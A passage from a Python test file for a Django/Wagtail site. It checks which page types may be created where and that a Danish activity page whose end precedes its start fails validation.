        self.assertAllowedSubpageTypes(ActivityIndexPage, {ActivityPage})
        self.assertAllowedSubpageTypes(ActivityPage, set())
        self.assertEqual(ActivityPage.parent_page_types, ["activities.ActivityIndexPage"])
        self.assertCanNotCreateAt(HomePage, ActivityPage)

    def test_home_page_offers_one_activity_index(self):
        self.assertCanCreateAt(HomePage, ActivityIndexPage)

    def test_the_activity_index_is_one_section_below_the_home_page(self):
        self.assertEqual(ActivityIndexPage.parent_page_types, ["home.HomePage"])
        home = HomePage.objects.get()
        home.add_child(instance=ActivityIndexPage(title="Aktiviteter"))
        self.assertFalse(ActivityIndexPage.can_create_at(home))
        self.assertCanNotCreateAt(ActivityIndexPage, ActivityIndexPage)

    def test_an_activity_ends_after_it_starts(self):
        from django.core.exceptions import ValidationError

        activity = ActivityPage(
            title="Baglæns", start=at(2030, 1, 2, 15), end=at(2030, 1, 2, 9), place="Haslev"
        )
        with self.assertRaises(ValidationError) as raised:
            activity.clean()
        self.assertIn("end", raised.exception.message_dict)
